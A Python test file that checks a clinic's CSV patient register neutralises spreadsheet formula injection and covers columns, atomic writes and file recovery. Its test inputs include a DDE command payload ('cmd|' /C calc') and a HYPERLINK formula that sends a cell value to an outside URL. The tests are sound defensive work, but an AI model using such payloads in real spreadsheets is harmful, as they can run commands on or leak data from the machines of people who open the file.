"""The CSV files of the register: nothing in them runs when a spreadsheet opens them."""

import csv
from pathlib import Path

import pytest

from clinic.adapters.embedded.register import CsvRegister, open_port
from clinic.settings import Settings


@pytest.fixture
def register(tmp_path: Path) -> CsvRegister:
    return open_port(Settings(local_data=str(tmp_path)))


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / "register" / "patients.csv"


def cells(file: Path) -> list[list[str]]:
    with file.open(newline="", encoding="utf-8") as opened:
        return list(csv.reader(opened))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.com?x="&A1,"open")',
        "=1+1",
        "=1",
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "+91 98123 45678",
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_text(register: CsvRegister, file: Path, text: str) -> None:
    register.put("patients", "1", {"name": text, "email": "asha@example.com"})
    assert cells(file)[1] == [f"'{text}", "asha@example.com"]


@pytest.mark.parametrize("text", ["+919812345678", "-5", "Asha = Rao", "a-b", "asha@example.com", "ఆశా", ""])
def test_a_cell_that_would_not_is_left_alone(register: CsvRegister, file: Path, text: str) -> None:
    register.put("patients", "1", {"name": text, "email": "asha@example.com"})
    assert cells(file)[1][0] == text


def test_a_sheet_begins_with_its_columns(register: CsvRegister, file: Path) -> None:
    register.put("patients", "1", {"name": "Asha Rao", "email": "asha@example.com"})
    assert cells(file) == [["name", "email"], ["Asha Rao", "asha@example.com"]]


def test_rows_written_before_a_column_was_added_stay_readable(register: CsvRegister, file: Path) -> None:
    register.put("patients", "1", {"name": "Asha", "fax": "none"})
    register.put("patients", "2", {"name": "Ravi", "phone": "+919812345678"})
    assert cells(file) == [["name", "phone"], ["Asha", ""], ["Ravi", "+919812345678"]]


def test_a_half_written_file_never_shows(register: CsvRegister, file: Path) -> None:
    register.put("patients", "1", {"name": "Asha"})
    assert [each.name for each in file.parent.glob("*.csv")] == ["patients.csv"]
    assert list(file.parent.glob(".*.part")) == []


def test_a_lost_file_is_written_anew_with_all_its_rows(register: CsvRegister, file: Path) -> None:
    register.put("patients", "1", {"name": "Asha"})
    file.unlink()
    register.put("patients", "2", {"name": "Ravi"})
    assert cells(file)[1:] == [["Asha"], ["Ravi"]]
